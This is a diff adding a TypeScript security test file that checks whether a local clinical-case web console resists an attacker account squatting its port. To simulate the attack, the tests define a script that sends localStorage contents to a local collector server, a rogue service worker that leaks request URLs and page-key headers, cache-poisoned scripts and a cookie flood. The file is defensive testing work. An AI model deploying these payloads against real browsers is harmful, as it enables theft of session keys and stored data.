@@ -1,0 +1,236 @@
+/**
+ * What another account of the machine can do to the page: as shown in November 2026, by a real browser, a program that held the console's
+ * port for one visit, and one that listens beside the running agent.
+ */
+import { once } from 'node:events';
+import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { BrowserContext, Page } from 'playwright-core';
+import { afterEach, expect, test } from 'vitest';
+import { makeSample } from '../samples/sample.ts';
+import { allAt } from '../integration/support/expectations.ts';
+import { openScene, type Scene } from '../integration/support/scene.ts';
+import { theBrowser } from './support/chromium.ts';
+
+const closers: (() => Promise<unknown>)[] = [];
+afterEach(async () => {
+  for (const close of closers.splice(0).toReversed()) await close();
+});
+
+async function listenAt(
+  port: number,
+  answer: (request: IncomingMessage, response: ServerResponse) => void,
+  address = '127.0.0.1',
+): Promise<Server> {
+  const server = createServer(answer);
+  server.listen(port, address);
+  await once(server, 'listening');
+  return server;
+}
+const portOf = (server: Server): number => (server.address() as AddressInfo).port;
+async function ended(server: Server): Promise<void> {
+  server.close();
+  server.closeAllConnections();
+  await once(server, 'close');
+}
+
+/** What reached the stranger: page keys, and what stood on the pages that its scripts saw. */
+async function collector(): Promise<{ readonly url: string; readonly taken: string[] }> {
+  const taken: string[] = [];
+  const server = await listenAt(0, (request, response) => {
+    taken.push(decodeURIComponent((request.url ?? '').slice(2)));
+    response.writeHead(204, { 'access-control-allow-origin': '*' }).end();
+  });
+  closers.push(() => ended(server));
+  return { url: `http://127.0.0.1:${String(portOf(server))}/`, taken };
+}
+
+const FOR_GOOD = 'max-age=31536000, immutable';
+/** Runs in any page that the stranger's script gets into: it sends on what the storage holds and what can be read. */
+const spy = (url: string): string => `
+  const tell = (what) => fetch('${url}?' + encodeURIComponent(what), { mode: 'no-cors' });
+  document.title = 'OWNED';
+  setInterval(() => tell(JSON.stringify(localStorage)), 200);`;
+
+/** Holds the port while no agent does, and leaves in the browser whatever it can. */
+function squatter(port: number, url: string, pageScripts: readonly string[]): Promise<Server> {
+  const worker = `
+    self.addEventListener('install', () => self.skipWaiting());
+    self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
+    self.addEventListener('fetch', (event) => {
+      const key = event.request.headers.get('x-twpas-page-key');
+      fetch('${url}?' + encodeURIComponent('worker ' + event.request.url + ' ' + key), { mode: 'no-cors' });
+      event.respondWith(fetch(event.request));
+    });`;
+  const page = `<title>stranger</title><script>
+    navigator.serviceWorker.register('/w.js').then(() => navigator.serviceWorker.ready).then(() => { document.title = 'left'; });
+    ${pageScripts.map((path) => `fetch('${path}');`).join('\n')}</script>`;
+  return listenAt(port, (request, response) => {
+    if (request.url === '/w.js') {
+      response.writeHead(200, { 'content-type': 'text/javascript' }).end(worker);
+    } else if (pageScripts.includes(request.url ?? '')) {
+      response.writeHead(200, { 'content-type': 'text/javascript', 'cache-control': FOR_GOOD }).end(spy(url));
+    } else {
+      response.writeHead(200, { 'content-type': 'text/html' }).end(page);
+    }
+  });
+}
+
+async function aPort(): Promise<number> {
+  const server = await listenAt(0, (_request, response) => response.end());
+  const port = portOf(server);
+  await ended(server);
+  return port;
+}
+
+async function sceneAt(port: number): Promise<Scene> {
+  const scene = await openScene({
+    settings: (settings) => {
+      settings['console'] = { port };
+    },
+  });
+  closers.push(() => scene.close());
+  return scene;
+}
+
+async function aContext(): Promise<BrowserContext> {
+  const browser = await theBrowser();
+  const context = await browser.newContext({ locale: 'zh-TW' });
+  closers.push(() => context.close());
+  return context;
+}
+const shownPatient = (page: Page): Promise<void> => page.locator('.case-row, [role=row]').nth(1).waitFor();
+
+test.each(['127.0.0.1', 'localhost'])(
+  'G3: who held the port for one visit to %s has nothing of the page afterwards, and is gone from the address',
+  async (host) => {
+    const port = await aPort();
+    const { url, taken } = await collector();
+    // The names of the page's files are in the package: the stranger knows them.
+    const { files } = await pageFiles();
+    const before = await squatter(port, url, files);
+    const context = await aContext();
+    const page = await context.newPage();
+    const address = `http://${host}:${String(port)}/`;
+    await page.goto(address);
+    await page.waitForFunction(() => document.title === 'left');
+    await page.reload();
+    await ended(before);
+
+    const scene = await sceneAt(port);
+    const agent = await scene.agent();
+    await scene.put(makeSample({ seed: 'victim', ending: 'approve', subType: '1', priority: '1' }));
+    await agent.until('accepted', allAt(1, 'accepted'));
+    taken.length = 0;
+    const fresh = (await agent.status()).console?.url ?? '';
+    await page.goto(`${fresh}#/cases`);
+    await page.getByRole('navigation').first().waitFor();
+    await shownPatient(page);
+    expect(await page.title()).not.toBe('OWNED');
+    const key = await page.evaluate(() => localStorage.getItem('twpas.page-key'));
+    expect(key).toMatch(/^[\w-]{43}$/);
+    expect(await page.evaluate(() => navigator.serviceWorker.controller)).toBeNull();
+    expect(taken.filter((each) => each.includes(key ?? '') || each.includes('rpc'))).toEqual([]);
+
+    // At the old address the browser still has the worker: it looks for its script, gets ours, and is rid of it.
+    const old = await context.newPage();
+    await old.goto(address);
+    await expect
+      .poll(async () => {
+        await old.goto(address).catch(() => undefined);
+        return new URL(old.url()).hostname;
+      })
+      .toMatch(/^twpas-[a-z2-7]{16}\.localhost$/);
+    await page.reload();
+    await shownPatient(page);
+    taken.length = 0;
+    await old.goto(address);
+    expect(new URL(old.url()).hostname).toBe(new URL(fresh).hostname);
+    await old.getByRole('navigation').first().waitFor();
+    expect(taken).toEqual([]);
+  },
+);
+
+test('G3: nobody listens at [::1] beside the running agent, and `localhost` leads to the page of this run', async () => {
+  const port = await aPort();
+  const scene = await sceneAt(port);
+  const agent = await scene.agent();
+  await expect(listenAt(port, (_request, response) => response.end('theirs'), '::1')).rejects.toMatchObject({
+    code: 'EADDRINUSE',
+  });
+  const context = await aContext();
+  const page = await context.newPage();
+  const { pathname, search } = new URL((await agent.status()).console?.url ?? '');
+  await page.goto(`http://localhost:${String(port)}${pathname}${search}#/cases`);
+  await page.getByRole('navigation').first().waitFor();
+  expect(new URL(page.url()).hostname).toBe(new URL(agent.consoleUrl).hostname);
+  expect(new URL(page.url()).hash).toBe('#/cases');
+  // A second tab by the address that people remember is in the same session.
+  const second = await context.newPage();
+  await second.goto(`http://127.0.0.1:${String(port)}/`);
+  await second.getByRole('navigation').first().waitFor();
+});
+
+test('G3: a page of the run before says so when the agent is back, and signs in at the address of this run', async () => {
+  const port = await aPort();
+  const scene = await sceneAt(port);
+  const first = await scene.agent();
+  const context = await aContext();
+  const page = await context.newPage();
+  await page.goto(first.consoleUrl);
+  await page.getByRole('navigation').first().waitFor();
+  const before = new URL(page.url()).hostname;
+  await first.stop();
+  const second = await scene.agent();
+  await page.getByText('twpas-agent status').first().waitFor();
+  await page.goto('about:blank');
+  await page.goto(`http://${before}:${String(port)}/#/health`);
+  expect(new URL(page.url()).hostname).toBe(new URL(second.consoleUrl).hostname);
+  expect(new URL(page.url()).hash).toBe('#/health');
+});
+
+test('G19: cookies that another port of this host has set do not shut the browser out', async () => {
+  const port = await aPort();
+  const scene = await sceneAt(port);
+  const agent = await scene.agent();
+  const context = await aContext();
+  const page = await context.newPage();
+  const name = new URL(agent.consoleUrl).hostname;
+  const setter = await listenAt(0, (request, response) => {
+    const cookies = Array.from({ length: 12 }, (_, n) => `big${String(n)}=${'x'.repeat(3900)}; Path=/`);
+    response.writeHead(200, { 'set-cookie': cookies, 'content-type': 'text/html' }).end(request.headers.host);
+  });
+  closers.push(() => ended(setter));
+  for (const host of ['127.0.0.1', 'localhost', name])
+    await page.goto(`http://${host}:${String(portOf(setter))}/`);
+  for (const host of ['127.0.0.1', 'localhost']) {
+    const { pathname, search } = new URL((await agent.status()).console?.url ?? '');
+    await page.goto(`http://${host}:${String(port)}${pathname}${search}`);
+    await page.getByRole('navigation').first().waitFor();
+  }
+});
+
+test('what a person chose for the page is there after the agent has started again', async () => {
+  const scene = await sceneAt(await aPort());
+  const first = await scene.agent();
+  const context = await aContext();
+  const page = await context.newPage();
+  await page.goto(first.consoleUrl);
+  await page.getByRole('button', { name: /^目前人員/ }).click();
+  const kept = page.waitForResponse((response) => response.url().endsWith('/rpc/people/keepChoice'));
+  await page.getByRole('menuitem', { name: '語言' }).hover();
+  await page.getByRole('menuitem', { name: 'English' }).click();
+  expect((await kept).status()).toBe(200);
+  await first.stop();
+  const second = await scene.agent();
+  await page.goto(second.consoleUrl);
+  await page.getByRole('link', { name: 'Cases' }).first().waitFor();
+});
+
+/** Paths of the page's scripts, as anybody reads them in the package. */
+async function pageFiles(): Promise<{ readonly files: string[] }> {
+  const { readdir } = await import('node:fs/promises');
+  const { BUILT } = await import('../integration/support/command.ts');
+  const names = await readdir(`${BUILT}/page/assets`);
+  return { files: names.filter((name) => name.endsWith('.js')).map((name) => `/assets/${name}`) };
+}
